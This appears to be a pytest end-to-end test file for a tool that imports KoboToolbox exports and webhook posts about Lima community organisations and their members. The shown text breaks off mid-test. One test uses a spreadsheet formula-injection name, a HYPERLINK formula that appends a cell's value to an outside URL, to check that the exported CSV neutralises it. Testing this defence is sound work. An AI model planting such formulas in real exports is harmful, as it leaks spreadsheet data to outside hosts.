"""The field's data brought in from KoboToolbox: exports through ``osv-import`` and posts through the webhook.

The four services listen on real ports (tests/support/served.py) with a real
nats-server; the token is one the real identity provider issued to the
``staff`` account. The files are exports of the shipped forms in Kobo's own
shape (tests/support/kobo.py). The story: the programme's promoters map
OSVs, register their members, hold a follow-up meeting and report an
activity; the person who imports checks each file first, fixes what the
report names, imports, and imports again by mistake.
"""

from __future__ import annotations

import base64
import csv
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import httpx
import pytest
from openpyxl import load_workbook

from devtools.embedded import free_port
from devtools.identity import IdentityProvider
from services.imports.api import create_app as imports_app
from services.imports.cli import main as osv_import
from services.imports.forms import shipped
from services.imports.settings import ImportSettings
from shared.auth import AuthSettings
from tests.support.identity import IssuedTokens, signed_in_headers
from tests.support.kobo import Answers, kobo_json, write_csv, write_xlsx
from tests.support.served import ServedApp, served_system
from tests.support.system import eventually

pytestmark = pytest.mark.timeout(300)

FORMS = shipped()
MAPPING, MEMBERS, MEETING, ACTIVITY = (FORMS[f] for f in ("osv_mapping", "osv_members", "osv_meeting", "osv_activity"))
HOOK_SECRET = "kobo-hook-secret-for-the-tests"


@pytest.fixture
def system(tmp_path: Path, nats_server: Any) -> Iterator[tuple[Any, dict[str, ServedApp]]]:
    with served_system(tmp_path / "var", nats_server.url) as running:
        yield running


def feed(url: str) -> list[dict[str, Any]]:
    """The service's whole ``GET /events`` feed, read as the auditor (the feeds are for auditors, partners, services)."""
    events, after = [], 0
    while True:
        page = httpx.get(f"{url}/events", params={"after": after, "limit": 1000}, headers=signed_in_headers("auditor"), timeout=30).json()
        events += page["events"]
        if page["next_after"] == after:
            return events
        after = page["next_after"]


def stored(served: ServedApp) -> int:
    """Every event the service stored, private ones included."""
    return served.runtime.app.log_head()


def report_rows(path: Path, sheet: str = "Problems") -> list[tuple[Any, ...]]:
    workbook = load_workbook(path, read_only=True)
    try:
        return [tuple(row) for row in workbook[sheet].iter_rows(min_row=2, values_only=True)]
    finally:
        workbook.close()


def every_cell(path: Path) -> str:
    workbook = load_workbook(path, read_only=True)
    try:
        return "\n".join(str(v) for ws in workbook.worksheets for row in ws.iter_rows(values_only=True) for v in row if v is not None)
    finally:
        workbook.close()


def test_exports_are_checked_then_recorded_once_and_a_kobo_hook_posting_twice_records_once(
    system: tuple[Any, dict[str, ServedApp]],
    tokens: IssuedTokens,
    identity_provider: IdentityProvider,
    tmp_path: Path,
    capsys: pytest.CaptureFixture[str],
) -> None:
    _, served = system
    registry, engagement = served["registry"].url, served["engagement"].url
    connection = ["--registry-url", registry, "--engagement-url", engagement, "--token", tokens["staff"]]

    # -- Mapping: a Spanish-labels export; districts as the promoters typed or chose them, one not in Lima.
    osvs = [
        Answers({"nombre": "Mujeres Emprendedoras de Breña", "distrito": "150105", "tipo": "productiva",
                 "ejes": "employment anti_discrimination", "canal_contacto": "whatsapp", "fecha_mapeo": "2021-03-15"}),
        Answers({"nombre": "Club Deportivo Los Andes", "distrito": "SJL", "fecha_mapeo": "2021-03-16"}),
        Answers({"nombre": "Vecinos de Miraflores", "distrito": "Miraflores de Arequipa", "fecha_mapeo": "2021-03-17"}),
    ]
    mapping = write_xlsx(tmp_path / "mapeo.xlsx", MAPPING, osvs, language=0)

    assert osv_import(["--dry-run", str(mapping), *connection]) == 1
    assert stored(served["registry"]) == 0  # the dry run wrote nothing
    [problem] = report_rows(tmp_path / "mapeo.dry-run-report.xlsx")
    assert problem[:5] == ("Mapeo de OSV _ OSV mapping", 4, "La organización/Distrito", "district", "lima_district")
    assert "is not a district of Lima Metropolitana" in problem[5]
    out = capsys.readouterr().out
    assert "2 would be created, 0 already there, 1 refused" in out

    assert osv_import([str(mapping), *connection]) == 1
    assert "2 created, 0 already there, 1 refused" in capsys.readouterr().out
    staff = signed_in_headers("staff")
    mapped = httpx.get(f"{registry}/osvs", headers=staff, timeout=30).json()
    assert sorted((o["name"], o["district"]) for o in mapped) == [
        ("Club Deportivo Los Andes", "San Juan de Lurigancho"), ("Mujeres Emprendedoras de Breña", "Breña")
    ]
    events = stored(served["registry"])

    assert osv_import([str(mapping), *connection]) == 1  # the same file again: the third row is still refused
    assert "0 created, 2 already there, 1 refused" in capsys.readouterr().out
    assert stored(served["registry"]) == events

    # -- The OSV list the forms choose from (a Kobo media file).
    assert osv_import(["osvs", "--output", str(tmp_path / "osvs.csv"), *connection]) == 0
    listed = (tmp_path / "osvs.csv").read_text(encoding="utf-8").splitlines()
    assert listed[0] == "name,label" and len(listed) == 3
    brena = next(o["id"] for o in mapped if o["district"] == "Breña")
    andes = next(o["id"] for o in mapped if o["district"] != "Breña")
    # Engagement knows both OSVs (from registry's events) once their rosters answer; the auditor's reads are masked and unlogged.
    auditor = signed_in_headers("auditor")
    eventually(lambda: httpx.get(f"{engagement}/osvs/{brena}/members", headers=auditor, timeout=30).status_code == 200, timeout=60)
    eventually(lambda: httpx.get(f"{engagement}/osvs/{andes}/members", headers=auditor, timeout=30).status_code == 200, timeout=60)

    # -- Members: accented names, blank optional answers, a row with a bad phone, and a person registered twice.
    maria = {"nombre_completo": "María José Pérez Añez", "tipo_documento": "CPP", "numero_documento": "001234567",
             "nacionalidad": "VE", "sexo": "F", "anio_nacimiento": 1988, "rol": "president", "telefono": "+51 987 654 321",
             "fecha_ingreso": "2021-04-01"}
    jose = {"nombre_completo": "José Ñañez Huamán", "tipo_documento": "DNI", "numero_documento": "41234567",
            "nacionalidad": "PE", "sexo": "M", "rol": "member", "fecha_ingreso": "2021-04-01"}
    yusmary = {"nombre_completo": "Yusmary Cordero", "tipo_documento": "NINGUNO", "nacionalidad": "VE", "sexo": "F",
               "rol": "member", "fecha_ingreso": "2021-04-02"}
    bad_phone = {"nombre_completo": "Ángel Rondón", "tipo_documento": "PASAPORTE", "numero_documento": "V12345678",
                 "nacionalidad": "VE", "sexo": "M", "rol": "member", "telefono": "12-34", "fecha_ingreso": "2021-04-03"}
    again = {**maria, "nombre_completo": "Maria Jose Perez", "numero_documento": "0012 34567", "rol": "member"}
    submissions = [
        Answers({"osv": brena}, {"miembros": [maria, jose, yusmary]}),
        Answers({"osv": brena}, {"miembros": [bad_phone]}),
        Answers({"osv": andes}, {"miembros": [again]}),
    ]
    members = write_xlsx(tmp_path / "miembros.xlsx", MEMBERS, submissions, language=1)

    assert osv_import(["--dry-run", str(members), *connection]) == 1
    assert stored(served["engagement"]) == 0
    problems = report_rows(tmp_path / "miembros.dry-run-report.xlsx")
    assert [(p[0], p[1], p[2], p[3], p[4]) for p in problems] == [
        ("miembros", 5, "Member/Phone", "phone", "phone_6_to_15_digits"),
        ("miembros", 6, "Member/Document number", "document_number", "person_already_registered"),
    ]
    assert [r[3] for r in report_rows(tmp_path / "miembros.dry-run-report.xlsx", "Rows")] == ["would be created", "refused", "refused"]
    written = every_cell(tmp_path / "miembros.dry-run-report.xlsx")
    for submission in submissions:  # the submissions' own ids are there, and are no one's personal data
        written = written.replace(submission.uuid, "")
    for value in ("María", "Pérez", "Ñañez", "Ángel", "001234567", "41234567", "V12345678", "987 654 321", "1988", "12-34"):
        assert value not in written

    assert osv_import([str(members), *connection]) == 1
    assert "1 created, 0 already there, 2 refused" in capsys.readouterr().out
    problems = report_rows(tmp_path / "miembros.import-report.xlsx")
    duplicate = next(p for p in problems if p[4] == "person_already_registered")
    assert "already registered as member" in duplicate[5]  # now engagement's own words, naming the member id
    roster = httpx.get(f"{engagement}/osvs/{brena}/members", params={"purpose": "follow_up"}, headers=staff, timeout=30).json()
    assert sorted(m["full_name"] for m in roster) == ["José Ñañez Huamán", "María José Pérez Añez", "Yusmary Cordero"]
    events = stored(served["engagement"])

    assert osv_import([str(members), *connection]) == 1
    assert "0 created, 1 already there, 2 refused" in capsys.readouterr().out
    # Nothing recorded again; the duplicate's 409, naming the member again, is on that member's access log again (the
    # lookup by document it is: a security tester's finding).
    since = served["engagement"].runtime.app.recorder.select_notifications(start=events + 1, limit=100)
    assert [n.topic.rsplit(":", 1)[-1] for n in since] == ["AccessLog.PersonalDataRead"]

    # -- An activity, exported with English labels, participants on their own sheet.
    activity = Answers(
        {"osv": brena, "fecha": "2021-07-03", "tipo": "mural_painting", "distrito": "150105", "beneficiarios_indirectos": 300,
         "productos": "mural public_space_recovered", "cantidad_mural": 1, "cantidad_public_space_recovered": 1},
        {"participantes": [{"nacionalidad": "VE", "sexo": "F", "cantidad": 12}, {"nacionalidad": "PE", "sexo": "M", "cantidad": 7}]},
    )
    activities = write_xlsx(tmp_path / "actividad.xlsx", ACTIVITY, [activity], language=1)
    assert osv_import([str(activities), *connection]) == 0
    assert "1 created, 0 already there, 0 refused" in capsys.readouterr().out
    reported = [e["data"] for e in feed(engagement) if e["type"] == "ActivityReported"]
    assert len(reported) == 1 and reported[0]["district"] == "Breña"

    # -- A CSV export, as Excel on Windows saves it: OSVs mapped already are already there.
    mapping_csv = write_csv(tmp_path / "mapeo.csv", MAPPING, osvs[:2], language=0, encoding="cp1252")
    assert osv_import([str(mapping_csv), *connection]) == 0
    assert "0 created, 2 already there, 0 refused" in capsys.readouterr().out

    # -- The webhook: a follow-up meeting posted by Kobo's REST Services, twice. It signs in as its own client.
    settings = ImportSettings(
        registry_url=registry,
        engagement_url=engagement,
        kobo_hooks={"osv_meeting": HOOK_SECRET},
        client_secret=identity_provider.client_secret("osv-imports"),
    )
    auth = AuthSettings(issuer=identity_provider.issuer)
    hook = ServedApp(imports_app(settings, auth_settings=auth), free_port()).start()
    try:
        meeting = Answers(
            {"osv": brena, "fecha": "2021-06-10", "modalidad": "in_person", "temas": "ruos_registration needs", "otros_asistentes": 2},
            {"acciones": [{"descripcion": "Reunir las actas de la asamblea", "responsable": "junta directiva", "fecha_limite": "2021-06-30"}]},
        )
        post = kobo_json(MEETING, meeting)
        basic = base64.b64encode(f"osv_meeting:{HOOK_SECRET}".encode()).decode()
        url = f"{hook.url}/kobo/osv_meeting/submissions"

        assert httpx.post(url, json=post, timeout=30).status_code == 401
        not_json = httpx.post(url, content=b"{", headers={"Content-Type": "application/json"}, timeout=30)
        assert not_json.status_code == 401 and not_json.headers["www-authenticate"].startswith("Basic")  # before the body is read
        wrong = base64.b64encode(b"osv_meeting:guess").decode()
        assert httpx.post(url, json=post, headers={"Authorization": f"Basic {wrong}"}, timeout=30).status_code == 401
        other_form = f"{hook.url}/kobo/osv_members/submissions"
        assert httpx.post(other_form, json=post, headers={"Authorization": f"Basic {basic}"}, timeout=30).status_code == 401

        first = httpx.post(url, json=post, headers={"Authorization": f"Basic {basic}"}, timeout=30)
        assert first.status_code == 201, first.text
        events = stored(served["engagement"])
        second = httpx.post(url, json=post, headers={"Authorization": f"Basic {basic}"}, timeout=30)
        assert second.status_code == 200 and second.json()["outcome"] == "already there"
        assert stored(served["engagement"]) == events
        assert [e["type"] for e in feed(engagement)].count("FollowUpMeetingHeld") == 1

        late = Answers({**meeting.values, "fecha": "2031-01-01"}, meeting.repeats)
        refused = httpx.post(url, json=kobo_json(MEETING, late), headers={"Authorization": f"Basic {basic}"}, timeout=30)
        assert refused.status_code == 422
        assert refused.json()["errors"][0]["field"] == "fecha"
        assert stored(served["engagement"]) == events

        # Two actions, the second's due date typed the Peruvian way: the answer says which action (Kobo's log is all the promoter sees).
        actions = [meeting.repeats["acciones"][0], {**meeting.repeats["acciones"][0], "fecha_limite": "30/06/2021"}]
        typo = Answers({**meeting.values, "fecha": "2021-06-11"}, {"acciones": actions})
        refused = httpx.post(url, json=kobo_json(MEETING, typo), headers={"Authorization": f"Basic {basic}"}, timeout=30)
        assert refused.status_code == 422, refused.text
        assert [e["field"] for e in refused.json()["errors"]] == ["acciones[2]/fecha_limite"]
        assert stored(served["engagement"]) == events
    finally:
        hook.stop()


def test_the_dry_run_refuses_a_row_naming_an_earlier_rows_osv_as_the_import_then_does(
    system: tuple[Any, dict[str, ServedApp]], tokens: IssuedTokens, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    """A dry run cannot see the OSVs an earlier row of the file would map: the importer compares each mapping with the
    earlier rows' names of its district by registry's own rule, and names the earlier row, as the import then refuses it.

    One file from two promoters who met the same organisations in Bayóvar (San Juan de Lurigancho, typed "SJL" once):
    the same association in capitals without accents and as "Asoc.", the same comedor as "N° 1"; "N.º 2" is another one.
    """
    _, served = system
    connection = ["--registry-url", served["registry"].url, "--engagement-url", served["engagement"].url, "--token", tokens["staff"]]
    names = [("Asociación de Vecinos Unidos por Bayóvar Alto", "150132"), ("ASOCIACION DE VECINOS UNIDOS POR BAYOVAR ALTO", "SJL"),
             ("Asoc. de Vecinos Unidos por Bayóvar Alto", "150132"), ("Comedor Popular N.º 1 Huanta Alto", "150132"),
             ("Comedor Popular N.º 2 Huanta Alto", "150132"), ("Comedor Popular N° 1 Huanta Alto", "150132"),
             ("Asociación de Vecinos Unidos por Bayóvar Alto", "150105")]  # the same name in Breña is another OSV
    mapping = write_csv(tmp_path / "mapeo.csv", MAPPING,
                        [Answers({"nombre": n, "distrito": d, "fecha_mapeo": "2021-03-16"}) for n, d in names])
    refused = [(3, 2), (4, 2), (7, 5)]  # (row, the earlier row it names): rows 2-8 of the CSV are the file's 7 submissions

    assert osv_import(["--dry-run", str(mapping), *connection]) == 1
    assert "4 would be created, 0 already there, 3 refused" in capsys.readouterr().out
    assert stored(served["registry"]) == 0
    problems = report_rows(tmp_path / "mapeo.dry-run-report.xlsx")
    assert [(p[1], p[2], p[3], p[4]) for p in problems] == [(row, "osv/nombre", "name", "possible_duplicate") for row, _ in refused]
    assert {p[0] for p in problems} == {"mapeo.csv"}
    for problem, (_, earlier) in zip(problems, refused, strict=True):
        assert f"row {earlier} of sheet 'mapeo.csv' of this file" in problem[5]

    assert osv_import([str(mapping), *connection]) == 1
    assert "4 created, 0 already there, 3 refused" in capsys.readouterr().out
    problems = report_rows(tmp_path / "mapeo.import-report.xlsx")
    assert [(p[1], p[2], p[3], p[4]) for p in problems] == [(row, "osv/nombre", "name", "possible_duplicate") for row, _ in refused]
    for problem, (_, earlier) in zip(problems, refused, strict=True):  # registry names the OSV; the report, the row that mapped it
        assert f"is row {earlier} of sheet 'mapeo.csv' of this file" in problem[5]

    assert osv_import(["--dry-run", str(mapping), *connection]) == 1  # checked again once imported: registry's own refusals
    assert "0 would be created, 4 already there, 3 refused" in capsys.readouterr().out
    problems = report_rows(tmp_path / "mapeo.dry-run-report.xlsx")
    assert [(p[1], p[4]) for p in problems] == [(row, "possible_duplicate") for row, _ in refused]
    for problem, (_, earlier) in zip(problems, refused, strict=True):
        assert f"is row {earlier} of sheet 'mapeo.csv' of this file" in problem[5]


def test_rows_another_account_recorded_are_already_there_not_refused(
    system: tuple[Any, dict[str, ServedApp]], tokens: IssuedTokens, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    """Kobo's REST Services posted the month's mappings to the webhook as they came in (the webhook signs in as its own
    client, ``osv-imports``); at the month's end the coordinator imports the export anyway, and a colleague imports it
    again. The services never replay one account's answer to another, so each sees the row's key as used by "another
    request": the import counts those rows as there (as it does a key past its retention), records nothing twice and
    refuses nothing."""
    _, served = system
    urls = ["--registry-url", served["registry"].url, "--engagement-url", served["engagement"].url]
    names = ["Comedor Popular Santa Rosa de Bayóvar", "Club de Madres Virgen de la Candelaria"]
    mapping = write_csv(tmp_path / "mapeo.csv", MAPPING,
                        [Answers({"nombre": n, "distrito": "150132", "fecha_mapeo": "2021-03-16"}) for n in names])

    assert osv_import([str(mapping), *urls, "--token", tokens["osv-imports"]]) == 0  # as the webhook recorded them
    assert "2 created, 0 already there, 0 refused" in capsys.readouterr().out
    for account in ("staff", "lead"):
        assert osv_import(["--dry-run", str(mapping), *urls, "--token", tokens[account]]) == 0
        assert "0 would be created, 2 already there (2 recorded otherwise: see the report), 0 refused" in capsys.readouterr().out
        assert osv_import([str(mapping), *urls, "--token", tokens[account]]) == 0
        assert "0 created, 2 already there (2 recorded otherwise: see the report), 0 refused" in capsys.readouterr().out
        notes = report_rows(tmp_path / "mapeo.import-report.xlsx")
        assert [(n[1], n[4]) for n in notes] == [(2, "recorded_otherwise"), (3, "recorded_otherwise")]
    assert [e["type"] for e in feed(served["registry"].url)].count("OSVMapped") == 2

    # The same account's own file, imported again unchanged: plainly already there, no note.
    assert osv_import([str(mapping), *urls, "--token", tokens["osv-imports"]]) == 0
    assert "0 created, 2 already there, 0 refused" in capsys.readouterr().out
    # Every run's report is kept: the one that created the rows among them (tester 24c: each run overwrote the last).
    reports = sorted(p.name for p in tmp_path.glob("mapeo.import-report*.xlsx"))
    assert len(reports) == 4 and "mapeo.import-report.xlsx" in reports
    created_run = [name for name in reports if "2 created" in every_cell(tmp_path / name)]
    assert len(created_run) == 1


def test_a_row_corrected_in_kobo_after_its_import_is_never_dropped_without_a_word(
    system: tuple[Any, dict[str, ServedApp]], tokens: IssuedTokens, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    """The mapping date of a submission already imported is changed under its _uuid (in the spreadsheet: Kobo gives an
    edit a new _uuid and keeps its meta/rootUuid, tests/e2e/test_kobo_edits.py); the coordinator imports the file again.
    The import records nothing twice and cannot apply the change: it says so (tester 24b).
    The service says the key was used for another request, which may as well be someone else's sent under the
    submission's key first ("key squatting"): the row is refused, for the person importing to look at, not taken for
    recorded."""
    _, served = system
    connection = ["--registry-url", served["registry"].url, "--engagement-url", served["engagement"].url, "--token", tokens["staff"]]
    first = Answers({"nombre": "Club de Madres Virgen de la Candelaria", "distrito": "150132", "fecha_mapeo": "2021-03-16"})
    assert osv_import([str(write_csv(tmp_path / "mapeo.csv", MAPPING, [first])), *connection]) == 0
    capsys.readouterr()
    corrected = Answers({**first.values, "fecha_mapeo": "2021-03-06"}, uuid=first.uuid)
    assert osv_import([str(write_csv(tmp_path / "mapeo.csv", MAPPING, [corrected])), *connection]) == 1
    out = capsys.readouterr().out
    assert "0 created, 0 already there, 1 refused" in out
    assert "[idempotency_key_reused]" in out and "corrected in Kobo since" in out
    assert [e["type"] for e in feed(served["registry"].url)].count("OSVMapped") == 1


def test_a_row_the_coordinator_found_to_be_another_organisation_is_mapped_with_distinct(
    system: tuple[Any, dict[str, ServedApp]], tokens: IssuedTokens, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    """Two comedores of Bayóvar are both "Comedor Popular Santa Rosa" (sectors 3 and 5). Registry refuses the second as a
    possible duplicate of the first; the report says how to map it all the same; the coordinator asks the promoter, who
    confirms they are two organisations, and imports again with ``--distinct``."""
    _, served = system
    connection = ["--registry-url", served["registry"].url, "--engagement-url", served["engagement"].url, "--token", tokens["staff"]]
    mapping = write_csv(tmp_path / "mapeo.csv", MAPPING, [
        Answers({"nombre": "Comedor Popular Santa Rosa", "distrito": "150132", "fecha_mapeo": "2021-03-16"}),
        Answers({"nombre": "Comedor Popular Santa Rosa", "distrito": "San Juan de Lurigancho", "fecha_mapeo": "2021-03-18"}),
    ])

    assert osv_import([str(mapping), *connection]) == 1
    out = capsys.readouterr().out
    assert "1 created, 0 already there, 1 refused" in out
    first = next(e for e in feed(served["registry"].url) if e["type"] == "OSVMapped")["subject"]
    [problem] = report_rows(tmp_path / "mapeo.import-report.xlsx")
    assert (problem[1], problem[4]) == (3, "possible_duplicate")
    assert f"import the file again with --distinct 3={first}" in problem[5]
    assert "is row 2 of sheet 'mapeo.csv' of this file" in problem[5]
    assert '"distinct_from"' not in problem[5]  # the API's advice, not a person importing a file's

    for wrong, says in ((["--distinct", "3"], "give ROW=ID"), (["--distinct", "3=Santa Rosa"], "a UUID"),
                        (["--distinct", f"9={first}"], "row 9 is not a row of this file")):
        assert osv_import([str(mapping), *connection, *wrong]) == 2
        assert says in capsys.readouterr().err
    assert [e["type"] for e in feed(served["registry"].url)].count("OSVMapped") == 1  # nothing sent for a wrong option

    assert osv_import(["--dry-run", str(mapping), *connection, "--distinct", f"3={first}"]) == 0
    assert "1 would be created, 1 already there, 0 refused" in capsys.readouterr().out
    assert osv_import([str(mapping), *connection, "--distinct", f"3={first}"]) == 0
    assert "1 created, 1 already there, 0 refused" in capsys.readouterr().out
    mapped = [e for e in feed(served["registry"].url) if e["type"] == "OSVMapped"]
    assert [e["data"]["name"] for e in mapped] == ["Comedor Popular Santa Rosa"] * 2
    assert mapped[1]["data"]["distinct_from"] == [first]  # the decision is on record, for the auditor

    assert osv_import([str(mapping), *connection, "--distinct", f"3={first}"]) == 0  # next month's import of the same file
    assert "0 created, 2 already there, 0 refused" in capsys.readouterr().out
    assert osv_import([str(mapping), *connection]) == 0  # without the option: row 3 was recorded with it, and says so
    out = capsys.readouterr().out  # (tester 242 F2: refused, "nothing of it is recorded now", where registry holds it)
    assert "0 created, 2 already there (1 recorded otherwise: see the report), 0 refused" in out
    [note] = report_rows(tmp_path / "mapeo.import-report.xlsx")
    assert (note[1], note[4]) == (3, "recorded_otherwise") and "as it is now but for --distinct" in note[5]
    assert [e["type"] for e in feed(served["registry"].url)].count("OSVMapped") == 2


def test_the_osv_list_for_the_forms_never_hands_a_spreadsheet_a_formula(
    system: tuple[Any, dict[str, ServedApp]], tokens: IssuedTokens, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    """Staff open ``osvs.csv`` in Excel before attaching it to the forms; an OSV's name came from the field."""
    _, served = system
    name = '=HYPERLINK("http://example.org/x?"&A1,"Ver informe")'
    mapped = httpx.post(f"{served['registry'].url}/osvs", headers={"Authorization": f"Bearer {tokens['staff']}"}, timeout=30,
                        json={"name": name, "district": "Villa El Salvador", "mapped_on": "2021-08-14"})
    assert mapped.status_code == 201, mapped.text
    output = tmp_path / "osvs.csv"
    assert osv_import(["osvs", "--output", str(output), "--registry-url", served["registry"].url, "--token", tokens["staff"]]) == 0
    with output.open(encoding="utf-8", newline="") as listed:
        assert list(csv.reader(listed))[1:] == [[mapped.json()["id"], f"'{name} (Villa El Salvador)"]]  # text, as Excel shows it


def test_the_same_person_twice_in_a_webhook_post_comes_with_every_other_entrys_mistakes(
    system: tuple[Any, dict[str, ServedApp]], identity_provider: IdentityProvider
) -> None:
    """One members post from a promoter: the same CE in entries 1 and 3, a DNI of 7 digits in 2 and a phone of 4 digits
    in 4. The answer named the repeat only (in words of a sheet of a file, tester 27b); the DNI and the phone came on the next post, once the repeat was taken out
    (tester 28, M1). Kobo's REST Services log is all the promoter sees: one answer lists them all, and nobody is registered."""
    _, served = system
    registry, engagement = served["registry"].url, served["engagement"].url
    staff = signed_in_headers("staff")
    mapped = httpx.post(f"{registry}/osvs", json={"name": "Olla Común Virgen de Fátima", "district": "Comas", "mapped_on": "2021-03-15"},
                        headers=staff, timeout=30)
    assert mapped.status_code == 201, mapped.text
    osv = mapped.json()["id"]
    auditor = signed_in_headers("auditor")  # the rosters answer once engagement knows the OSV, from registry's events
    eventually(lambda: httpx.get(f"{engagement}/osvs/{osv}/members", headers=auditor, timeout=30).status_code == 200, timeout=60)

    person = {"nombre_completo": "Yorgelis Carolina Mendoza Pérez", "tipo_documento": "CE", "numero_documento": "001234567",
              "nacionalidad": "VE", "sexo": "F", "anio_nacimiento": 1990, "rol": "member", "fecha_ingreso": "2021-04-01"}
    entries = [
        person,
        {**person, "nombre_completo": "Juan Carlos Quispe Mamani", "tipo_documento": "DNI", "numero_documento": "4123456",
         "nacionalidad": "PE", "sexo": "M"},
        person,
        {**person, "nombre_completo": "Ana Lucía Torres", "numero_documento": "002345678", "telefono": "98-76"},
    ]
    settings = ImportSettings(registry_url=registry, engagement_url=engagement, kobo_hooks={"osv_members": HOOK_SECRET},
                              client_secret=identity_provider.client_secret("osv-imports"))
    hook = ServedApp(imports_app(settings, auth_settings=AuthSettings(issuer=identity_provider.issuer)), free_port()).start()
    try:
        events = stored(served["engagement"])
        basic = base64.b64encode(f"osv_members:{HOOK_SECRET}".encode()).decode()
        answer = httpx.post(f"{hook.url}/kobo/osv_members/submissions", json=kobo_json(MEMBERS, Answers({"osv": osv}, {"miembros": entries})),
                            headers={"Authorization": f"Basic {basic}"}, timeout=60)
    finally:
        hook.stop()

    assert answer.status_code == 422, answer.text
    assert [(e["field"], e["rule"]) for e in answer.json()["errors"]] == [
        ("miembros[2]/numero_documento", "dni_8_digits"),
        ("miembros[3]/numero_documento", "person_already_registered"),
        ("miembros[4]/telefono", "phone_6_to_15_digits"),
    ]
    # A post has no sheet nor file, and nobody was registered (tester 27b): the message names the other entry.
    assert answer.json()["errors"][1]["message"] == "a person with this document is entry miembros[1] of this submission too: register each person once"
    assert stored(served["engagement"]) == events


def test_rows_copied_in_the_spreadsheet_with_their_uuid_are_refused_naming_each_other_in_the_dry_run_and_the_import(
    system: tuple[Any, dict[str, ServedApp]], tokens: IssuedTokens, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    """The coordinator adds an OSV found on paper by copying a row of the mapping export and changing name and district:
    the copy keeps Kobo's ``_uuid``. The dry run said "would be created" and the import dropped it as "already there"
    with exit 0 (tester 30, M4). Both rows are refused before anything is sent, each naming the other, in the dry run
    and the import alike; the other rows go in; the exit status says rows were not recorded. The same for a roster's
    submission made by copying the main row (another OSV, another ``_index``, the same ``_uuid``)."""
    _, served = system
    connection = ["--registry-url", served["registry"].url, "--engagement-url", served["engagement"].url, "--token", tokens["staff"]]
    kobo = Answers({"nombre": "Comedor Los Jardines", "distrito": "150110", "fecha_mapeo": "2021-06-01"})
    copied = Answers({"nombre": "Club de Madres Las Flores", "distrito": "150112", "fecha_mapeo": "2021-06-02"}, uuid=kobo.uuid)
    other = Answers({"nombre": "Olla Común Unidos", "distrito": "150117", "fecha_mapeo": "2021-06-03"})
    twice = Answers(dict(other.values), uuid=other.uuid)  # the same row twice, answers and all: recorded once
    mapping = write_xlsx(tmp_path / "mapeo.xlsx", MAPPING, [kobo, copied, other, twice])

    for args, line, report in ((["--dry-run"], "1 would be created, 1 already there, 2 refused", "mapeo.dry-run-report.xlsx"),
                               ([], "1 created, 1 already there, 2 refused", "mapeo.import-report.xlsx")):
        assert osv_import([*args, str(mapping), *connection]) == 1
        assert line in capsys.readouterr().out
        problems = report_rows(tmp_path / report)
        assert [(p[1], p[2], p[3], p[4]) for p in problems] == [
            (2, "_uuid", "_uuid", "same_uuid_other_answers"), (3, "_uuid", "_uuid", "same_uuid_other_answers")
        ]
        assert "row 3 of sheet" in problems[0][5] and "row 2 of sheet" in problems[1][5]
        assert "clear its _uuid" in problems[0][5]
    mapped = httpx.get(f"{served['registry'].url}/osvs", headers=signed_in_headers("staff"), timeout=30).json()
    assert [o["name"] for o in mapped] == ["Olla Común Unidos"]

    # The copy's _uuid cleared (as the message says): both rows go in, the copy keyed by its answers.
    copied.uuid = ""
    assert osv_import([str(write_xlsx(tmp_path / "mapeo.xlsx", MAPPING, [kobo, copied, other, twice])), *connection]) == 0
    assert "2 created, 2 already there, 0 refused" in capsys.readouterr().out

    first = {"nombre_completo": "Primera Persona", "tipo_documento": "DNI", "numero_documento": "41234561",
             "nacionalidad": "PE", "sexo": "F", "rol": "member", "fecha_ingreso": "2021-06-01"}
    second = {**first, "nombre_completo": "Segunda Persona", "numero_documento": "41234562"}
    osv_ids = [o["id"] for o in httpx.get(f"{served['registry'].url}/osvs", headers=signed_in_headers("staff"), timeout=30).json()]
    roster = Answers({"osv": osv_ids[0]}, {"miembros": [first]})
    copy = Answers({"osv": osv_ids[1]}, {"miembros": [second]}, uuid=roster.uuid)
    members = write_xlsx(tmp_path / "miembros.xlsx", MEMBERS, [roster, copy])
    events = stored(served["engagement"])
    for args in (["--dry-run"], []):
        assert osv_import([*args, str(members), *connection]) == 1
        assert "0 already there, 2 refused" in capsys.readouterr().out
    assert stored(served["engagement"]) == events


def test_a_row_with_a_date_the_import_cannot_read_is_told_its_other_mistakes_too(
    system: tuple[Any, dict[str, ServedApp]], tokens: IssuedTokens, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    """Tester 137 F6: a row with '31/09/2021' and a composition the form does not have was told the date alone; fixed,
    the next run told the composition. Both at once now, nothing recorded."""
    _, served = system
    connection = ["--registry-url", served["registry"].url, "--engagement-url", served["engagement"].url, "--token", tokens["staff"]]
    mapping = write_csv(tmp_path / "mapeo.csv", MAPPING, [Answers({
        "nombre": "Comedor Doña Angélica", "distrito": "villa maria del triunfo", "composicion": "de todos", "fecha_mapeo": "31/09/2021",
    })], language=0, encoding="cp1252")

    assert osv_import(["--dry-run", str(mapping), *connection]) == 1
    problems = report_rows(tmp_path / "mapeo.dry-run-report.xlsx")
    assert [(p[3], p[4]) for p in problems] == [("mapped_on", "date_as_excel_writes_it"), ("composition", "enum")], problems
    assert "September 2021 has 30 days" in next(p[5] for p in problems if p[3] == "mapped_on")
    assert httpx.get(f"{served['registry'].url}/osvs", headers=signed_in_headers("staff"), timeout=30).json() == []


def test_dates_as_spanish_excel_writes_them_in_a_csv_are_read_day_first_and_any_other_is_refused_naming_its_cell(
    system: tuple[Any, dict[str, ServedApp]], tokens: IssuedTokens, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    """The coordinator opens the mapping export in Excel (Spanish Windows), corrects names and saves CSV: `;`, cp1252,
    dates day first as Peru writes them (15/03/2021), a date cell with its midnight, a date column formatted as number
    (44270). Every row was refused "must be a date written YYYY-MM-DD" (tester 30, M10). They are read as the dates they
    are; a time of day, a month-first date and a two-digit year are refused naming the row, the column, the value and the
    forms taken, before anything is sent."""
    _, served = system
    connection = ["--registry-url", served["registry"].url, "--engagement-url", served["engagement"].url, "--token", tokens["staff"]]
    dates = [("Comedor Señor de los Milagros", "15/03/2021", "2021-03-15"), ("Olla Común Año Nuevo", "1/4/2021", "2021-04-01"),
